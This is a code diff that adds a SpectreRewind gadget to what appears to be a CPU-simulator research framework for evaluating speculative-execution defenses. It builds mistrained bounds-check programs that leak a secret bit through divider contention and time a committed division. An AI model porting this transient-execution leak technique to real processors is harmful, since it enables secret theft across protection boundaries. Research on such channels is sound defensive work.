@@ -240,3 +240,213 @@ class UnxpecGadget:
     def target_sets_needed(self) -> List[int]:
         """Addresses whose L1 sets the eviction-set optimisation must prime."""
         return [self.layout.p_entry(k) for k in range(1, self.params.n_loads + 1)]
+
+
+# ---------------------------------------------------------------------------
+# SpectreRewind gadget (functional-unit contention channel)
+# ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class RewindParams:
+    """Knobs of the SpectreRewind round (see ``docs/channels.md``)."""
+
+    #: Transient divisions racing the squash (1..8). Only those whose issue
+    #: slot lands before the squash occupy the divider, so the chain just
+    #: needs to outlast the speculation window — the observable tail is the
+    #: last division to win an issue slot, grinding past the squash point.
+    div_chain: int = 6
+    #: Dependent memory accesses in the branch condition f(N).
+    condition_accesses: int = 1
+    #: Chained ALU ops appended to the condition (window tuning).
+    condition_pad: int = 4
+    #: Sender invocations with in-bounds indices before the attack one.
+    train_iters: int = 8
+
+    def __post_init__(self) -> None:
+        if not 1 <= self.div_chain <= 8:
+            raise AttackError("div_chain must be in 1..8")
+        if self.condition_accesses < 1:
+            raise AttackError("condition_accesses must be >= 1")
+        if self.condition_pad < 0:
+            raise AttackError("condition_pad must be non-negative")
+        if self.train_iters < 1:
+            raise AttackError("need at least one training invocation")
+
+
+class RewindGadget:
+    """Builds setup/round programs for the divider-contention channel.
+
+    Same invocation-loop skeleton as :class:`UnxpecGadget` (one branch PC,
+    mistrained in-bounds, one out-of-bounds attack invocation), but the
+    transient body transmits through the **non-pipelined divider** instead
+    of cache state, and the receiver is a *committed* division after the
+    squash:
+
+    * the transient body loads ``x = P[secret*64]`` and then the dependent
+      ``y = P[secret*128 + x]``.  With secret 0 both are warm L1 hits, so a
+      chain of divisions issues well inside the speculation window and the
+      last one to issue keeps the divider busy past the squash.  With
+      secret 1 both lines are flushed each invocation: whatever the defense
+      does with the miss (install it, shadow-fill it, delay it), the
+      *dependent* load cannot complete before the squash, the divisor never
+      readies, and no transient division issues;
+    * after the squash, ``ts1; q = ts1/c; ts2`` times one committed
+      division.  Secret 0 leaves the divider busy (the squash cannot recall
+      an in-flight division), so the committed division queues — a
+      secret-dependent ``ts2-ts1`` with **zero** cache-state involvement.
+
+    The round leaves no secret-dependent cache footprint even with no
+    defense at all: the secret-1 fills are still in flight at the squash
+    and never install.
+    """
+
+    def __init__(
+        self,
+        params: RewindParams = RewindParams(),
+        layout: AttackLayout = DEFAULT_LAYOUT,
+        regs: Regs = DEFAULT_REGS,
+    ) -> None:
+        self.params = params
+        self.layout = layout
+        self.regs = regs
+        self.bounds_branch_pc: Optional[int] = None
+
+    #: Scratch registers of the rewind body (clear of the Regs allocation:
+    #: r13..r20 hold the div chain via ``transient_dst``).
+    R_X = "r12"  # x = P[secret*64]
+    R_DIVIDEND = "r22"
+    R_CDIV = "r23"  # committed divisor
+    R_XADDR = "r26"
+    R_YADDR = "r27"
+    R_DIVISOR = "r29"  # y | 1
+
+    def init_memory(self, dram: Dram, secret_bit: int = 0) -> None:
+        """Write the victim/attacker data structures into memory."""
+        lay = self.layout
+        dram.poke(lay.a_base, 0)
+        dram.poke(lay.secret_addr, secret_bit & 1)
+        # P[0] = 0 so the dependent y address is P[secret*128] either way.
+        dram.poke(lay.p_base, 0)
+        dram.poke(lay.p_entry(1), 0)
+        total = self.params.train_iters
+        for i in range(total):
+            dram.poke(lay.table_entry(i), 0)
+        dram.poke(lay.table_entry(total), lay.out_of_bounds_index)
+        # The tail entries past the attack index stay out-of-bounds too:
+        # the wrong path overruns the loop-back branch and re-enters the
+        # invocation with i+1, so an in-bounds tail index would make every
+        # overrun pass transmit a constant 0 — hitting P[0] and issuing a
+        # secret-independent division right before the squash. Keeping the
+        # tail out-of-bounds makes each overrun pass re-send the secret.
+        for i in range(total + 1, total + 64):
+            dram.poke(lay.table_entry(i), lay.out_of_bounds_index)
+        for i, word in enumerate(chain_pointers(lay, self.params.condition_accesses)):
+            dram.poke(lay.chain_entry(i), word)
+
+    def set_secret(self, dram: Dram, secret_bit: int) -> None:
+        dram.poke(self.layout.secret_addr, secret_bit & 1)
+
+    def memory_image(self, secret_bit: int = 0) -> dict:
+        dram = Dram()
+        self.init_memory(dram, secret_bit)
+        return dram.image()
+
+    def build_setup(self) -> Program:
+        """Warm A[0], the secret word, P[0] and the index table."""
+        lay, r = self.layout, self.regs
+        b = ProgramBuilder("rewind-setup")
+        b.li(r.a_base, lay.a_base)
+        b.li(r.p_base, lay.p_base)
+        b.li(r.table, lay.table_base)
+        b.load(r.scratch2, r.a_base, 0)
+        b.li(r.tmp, lay.secret_addr)
+        b.load(r.scratch2, r.tmp, 0)
+        b.load(r.scratch2, r.p_base, 0)
+        table_words = self.params.train_iters + 64
+        table_lines = (table_words * WORD_SIZE + 63) // 64
+        for line in range(table_lines):
+            b.load(r.scratch2, r.table, line * 64)
+        b.fence()
+        b.halt()
+        return b.build()
+
+    def build_round(self) -> Program:
+        p, lay, r = self.params, self.layout, self.regs
+        b = ProgramBuilder(
+            f"rewind-round[divs={p.div_chain},N={p.condition_accesses},"
+            f"train={p.train_iters}]"
+        )
+        b.li(r.a_base, lay.a_base)
+        b.li(r.p_base, lay.p_base)
+        b.li(r.chain, lay.chain_base)
+        b.li(r.table, lay.table_base)
+        b.li(r.iters, p.train_iters + 1)
+        b.li(r.i, 0)
+        b.li(self.R_DIVIDEND, 1 << 20)
+        b.li(self.R_CDIV, 3)
+
+        b.label("invoke")
+        # index = table[i]
+        b.shli(r.scratch_addr, r.i, 3)
+        b.add(r.scratch_addr, r.table, r.scratch_addr)
+        b.load(r.index, r.scratch_addr, 0)
+        # Preparation: flush the f(N) chain and the secret-1 targets P[64]
+        # (x) and P[128] (y) so the dependent transient pair misses.
+        for i in range(p.condition_accesses):
+            b.li(r.tmp, lay.chain_entry(i))
+            b.flush(r.tmp, 0)
+        b.flush(r.p_base, lay.p_entry(1) - lay.p_base)
+        b.flush(r.p_base, lay.p_entry(2) - lay.p_base)
+        b.fence()
+        # Branch condition: bound = f(N) pointer chase.
+        b.load(r.bound, r.chain, 0)
+        for _ in range(p.condition_accesses - 1):
+            b.load(r.bound, r.bound, 0)
+        for _ in range(p.condition_pad):
+            b.addi(r.bound, r.bound, 0)
+        self.bounds_branch_pc = b.here
+        b.branch("ge", r.index, r.bound, "after_body")
+        # -- transient sender body --
+        b.shli(r.scratch_addr, r.index, 3)
+        b.add(r.scratch_addr, r.a_base, r.scratch_addr)
+        b.load(r.secret, r.scratch_addr, 0)  # secret = A[index]
+        b.shli(r.secret_off, r.secret, 6)  # secret * 64
+        b.add(self.R_XADDR, r.p_base, r.secret_off)
+        b.load(self.R_X, self.R_XADDR, 0)  # x = P[secret*64]
+        b.shli(self.R_YADDR, r.secret, 7)  # secret * 128
+        b.add(self.R_YADDR, r.p_base, self.R_YADDR)
+        b.add(self.R_YADDR, self.R_YADDR, self.R_X)
+        b.load(self.R_DIVISOR, self.R_YADDR, 0)  # y = P[secret*128 + x]
+        b.opi("or", self.R_DIVISOR, self.R_DIVISOR, 1)  # divisor != 0
+        for k in range(1, p.div_chain + 1):
+            # Independent divisions (shared sources, distinct dests):
+            # serialised by divider occupancy, not dataflow, so they race
+            # the squash point one issue slot at a time.
+            b.div(r.transient_dst(k), self.R_DIVIDEND, self.R_DIVISOR)
+        b.label("after_body")
+        # -- committed receiver: time one post-squash division. Dividing
+        # ts1 (not a constant) keeps the wrong-path overrun from issuing
+        # this division transiently: ts1 never readies on the wrong path.
+        b.rdtscp(r.ts1)
+        b.div(r.scratch2, r.ts1, self.R_CDIV)
+        b.rdtscp(r.ts2)
+        # Drain epilogue: a load data-dependent on the measured division.
+        # The next invocation's fence only orders *memory* operations, so
+        # without this the committed training-body divisions back-log the
+        # divider across iterations and bury the attack-round signal.
+        b.opi("and", r.tmp, r.scratch2, 0)
+        b.add(r.tmp, r.tmp, r.table)
+        b.load(r.tmp2, r.tmp, 0)
+        b.addi(r.i, r.i, 1)
+        b.branch("lt", r.i, r.iters, "invoke")
+        b.halt()
+        return b.build()
+
+    @property
+    def ts_regs(self) -> tuple:
+        return (self.regs.ts1, self.regs.ts2)
+
+    def secret_ranges(self) -> tuple:
+        """Taint-source declaration for the static analyzer."""
+        return (self.layout.secret_range,)
